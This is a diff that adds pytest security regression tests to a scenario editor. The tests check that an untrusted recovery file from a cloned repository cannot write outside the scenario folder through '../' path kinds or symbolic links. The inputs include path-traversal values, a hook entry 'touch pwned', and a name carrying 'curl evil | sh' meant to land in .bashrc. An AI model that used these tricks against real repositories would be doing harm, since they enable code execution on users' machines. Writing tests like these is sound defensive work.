@@ -7,6 +7,7 @@ import os
 import shutil
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -110,3 +111,180 @@ def test_the_recovery_file_is_not_a_scenario_file(tmp_path, folder):
     from sandtable.scenario import load_scenario
     (folder / ".sandtable-recovery").write_text("written: 1\nfiles: {}\n", encoding="utf-8")
     assert [d.code for d in load_scenario(folder).diagnostics] == []
+
+
+# -- a recovery file from elsewhere is never trusted ---------------------------------------------
+POSIX = pytest.mark.skipif(os.name != "posix", reason="symbolic links as on POSIX")
+
+
+def plant(folder: Path, files: dict, removed=(), written=1_700_000_000, scenario=None) -> Path:
+    """A recovery file as a cloned repository could carry one: naming this scenario (unless
+    `scenario` says otherwise), with the given entries."""
+    import yaml
+    ident = {"id": "workshop", "folder": str(folder.resolve())} if scenario is None else scenario
+    path = folder / ".sandtable-recovery"
+    path.write_text(yaml.safe_dump({"scenario": ident, "written": written, "files": files,
+                                    "removed": list(removed)}), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("kind", ["locale:../../victim", "locale:../../../victim", "../victim",
+                                  "locale:de\n", "locale:", "Map", "locale:zh-hans", 5])
+def test_a_restored_file_kind_must_be_a_scenario_file(qtbot, tmp_path, folder, monkeypatch, kind):
+    """Restore unsaved work? -> Yes -> Save never writes a file the scenario does not have: the
+    kind `locale:../../victim` once rewrote a file two folders up."""
+    victim = tmp_path / "victim.yaml"
+    victim.write_text("repos: []\n", encoding="utf-8")
+    plant(folder, {kind: {"repos": [{"repo": "local", "hooks": [{"entry": "touch pwned"}]}]}})
+    window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    assert asked == []                                     # not offered at all
+    assert "was not offered back" in window.statusBar().currentMessage()
+    assert "not a file of a scenario" in window.statusBar().currentMessage()
+    window.scene.rename("norway", "Norge")                 # an ordinary edit, then a save
+    assert window.save()
+    assert victim.read_text(encoding="utf-8") == "repos: []\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["editor.ini", "victim.yaml", "workshop"]
+    close(window)
+
+
+def test_a_removed_entry_must_be_a_locale(tmp_path, folder, qtbot):
+    from editor.document import ScenarioDocument
+    plant(folder, {}, removed=["map"])
+    with pytest.raises(recovery.RecoveryRefused, match="'map', which is not a file of a scenario"):
+        recovery.read(ScenarioDocument(folder))
+
+
+def test_the_document_refuses_a_kind_that_is_not_a_file_kind(tmp_path, folder, qtbot):
+    """The cause, below the recovery file: no edit can make the document hold a file that is
+    not one of the scenario's, whatever asks."""
+    from editor.document import ScenarioDocument
+    document = ScenarioDocument(folder)
+    with pytest.raises(ValueError, match="not a kind of scenario file"):
+        document.set_value("locale:../../victim", ("locale",), "x")
+    assert "locale:../../victim" not in document.files and not document.is_dirty()
+
+
+def test_restore_then_save_writes_a_new_locale_inside_the_folder(qtbot, tmp_path, folder, monkeypatch):
+    plant(folder, {"locale:de": {"locale": "de", "entries": {"spaces.norway.name": {"text": "Norwegen"}}}})
+    window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    assert len(asked) == 1 and asked[0].startswith("Unsaved work of 2023-11-")
+    assert window.document.locale_tags == ["de", "zh-Hans"]
+    assert window.save()
+    assert "Norwegen" in (folder / "locales" / "de.yaml").read_text(encoding="utf-8")
+    assert not (folder / ".sandtable-recovery").exists()
+    close(window)
+
+
+@POSIX
+@pytest.mark.parametrize("linked", ["before opening", "after opening"])
+def test_a_new_locale_is_not_saved_through_a_locales_folder_linked_outside(
+        qtbot, tmp_path, folder, monkeypatch, linked):
+    """PATH001 when the file is first held (the link was there at opening) and at the write
+    itself (it appeared while the editor was open)."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+
+    def link_out():
+        shutil.rmtree(folder / "locales")
+        (folder / "locales").symlink_to(outside, target_is_directory=True)
+    if linked == "before opening":
+        link_out()
+    window, _ = open_window(monkeypatch, tmp_path, folder, QMessageBox.No)
+    window.document.add_locale("de")
+    shown = []
+    monkeypatch.setattr(QMessageBox, "critical", lambda *a, **k: shown.append(a[2]))
+    if linked == "before opening":
+        assert window.document.files["locale:de"].problem.code == "PATH001"
+        window.save()
+    else:
+        link_out()
+        assert not window.save()
+        assert "locales/de.yaml leads outside workshop/ (through a link or ..); nothing was written" in shown[0]
+    assert list(outside.iterdir()) == []
+    close(window)
+
+
+def test_a_recovery_file_of_another_scenario_is_not_offered(qtbot, tmp_path, folder, monkeypatch):
+    other = tmp_path / "other"
+    shutil.copytree(folder, other)
+    for scenario in ({"id": "workshop", "folder": str(other.resolve())},      # another folder
+                     {"id": "elsewhere", "folder": str(folder.resolve())},    # another scenario
+                     None):
+        path = plant(folder, {"map": {"spaces": []}}, scenario=scenario)
+        if scenario is None:   # an older file, naming no scenario
+            text = path.read_text(encoding="utf-8")
+            path.write_text("\n".join(line for line in text.splitlines()
+                                      if not line.startswith(("scenario:", "  folder:", "  id:"))) + "\n")
+        window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+        assert asked == [] and not window.document.is_dirty()
+        assert window.statusBar().currentMessage() == (
+            "Unsaved work was not offered back: .sandtable-recovery was written for another "
+            "scenario (or another folder)")
+        close(window)
+
+
+@pytest.mark.parametrize("written", [-1e300, 1e300, 10 ** 15, -1, "soon", True, None])
+def test_a_bad_written_time_never_stops_the_scenario_from_opening(qtbot, tmp_path, folder, monkeypatch, written):
+    """-1e300 once raised out of time.localtime while the scenario opened; the time the file
+    was last changed stands in for any time a clock cannot show."""
+    path = plant(folder, {"map": {**recovery_map(folder), "notes": "kept"}}, written=written)
+    os.utime(path, (1_600_000_000, 1_600_000_000))
+    window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    when = time.strftime("%Y-%m-%d %H:%M", time.localtime(1_600_000_000))
+    assert asked and asked[0].startswith(f"Unsaved work of {when} was found")
+    assert window.document.own("map")["notes"] == "kept"
+    close(window)
+
+
+@pytest.mark.parametrize("written", [".nan", ".inf", "-.inf", "1" * 5000])
+def test_a_written_time_the_reader_refuses_only_drops_the_offer(qtbot, tmp_path, folder, monkeypatch, written):
+    path = plant(folder, {"map": {"notes": "kept"}})
+    path.write_text(path.read_text(encoding="utf-8").replace("written: 1700000000", f"written: {written}"),
+                    encoding="utf-8")
+    window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    assert asked == [] and window.document is not None and "notes" not in window.document.own("map")
+    assert window.statusBar().currentMessage().startswith(
+        "Unsaved work was not offered back: .sandtable-recovery cannot be read: ")
+    close(window)
+
+
+def recovery_map(folder: Path) -> dict:
+    from sandtable.yamlsource import read_yaml_file
+    return read_yaml_file(folder / "map.yaml").data
+
+
+def test_an_unknowable_time_is_shown_as_such():
+    assert recovery.Recovered(-1e300, {}, []).when == "an unknown time"
+    assert recovery.Recovered(float("nan"), {}, []).when == "an unknown time"
+
+
+@POSIX
+def test_autosave_replaces_a_linked_recovery_file_and_never_writes_through_it(qtbot, tmp_path, folder, monkeypatch):
+    """A cloned repository can carry `.sandtable-recovery -> ../.bashrc`: the recovery YAML (with
+    a note of several lines from the map) once replaced the link's target."""
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("export PATH=$PATH\n", encoding="utf-8")
+    link = folder / ".sandtable-recovery"
+    link.symlink_to(Path("..") / "bashrc")
+    window, asked = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    assert asked == [] and "is a link" in window.statusBar().currentMessage()   # nor read through
+    window.scene.rename("norway", "Norge\ncurl evil | sh")
+    window.autosave()
+    assert bashrc.read_text(encoding="utf-8") == "export PATH=$PATH\n"
+    assert not link.is_symlink() and "Norge" in link.read_text(encoding="utf-8")
+    link.unlink()
+    link.symlink_to(Path("..") / "bashrc")
+    assert window.save()                                   # discarding removes the link itself
+    assert not os.path.lexists(link) and bashrc.read_text(encoding="utf-8") == "export PATH=$PATH\n"
+    close(window)
+
+
+@POSIX
+def test_a_dangling_recovery_link_is_not_followed_to_create_its_target(qtbot, tmp_path, folder, monkeypatch):
+    link = folder / ".sandtable-recovery"
+    link.symlink_to(tmp_path / "created-by-autosave")
+    window, _ = open_window(monkeypatch, tmp_path, folder, QMessageBox.Yes)
+    window.scene.rename("norway", "Norge")
+    window.autosave()
+    assert not (tmp_path / "created-by-autosave").exists() and not link.is_symlink()
+    close(window)
